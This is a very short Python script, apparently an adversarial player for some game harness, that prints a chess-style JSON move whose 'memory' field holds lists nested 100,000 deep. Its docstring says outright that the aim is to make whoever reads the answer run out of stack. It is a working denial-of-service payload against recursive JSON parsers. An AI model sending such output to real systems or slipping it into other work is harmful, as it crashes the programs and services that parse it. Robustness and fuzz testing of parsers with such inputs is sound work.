"""Answers with nested lists, so that whoever reads them runs out of stack."""

print('{"move": "d4", "memory": ' + "[" * 100_000 + "]" * 100_000 + "}")
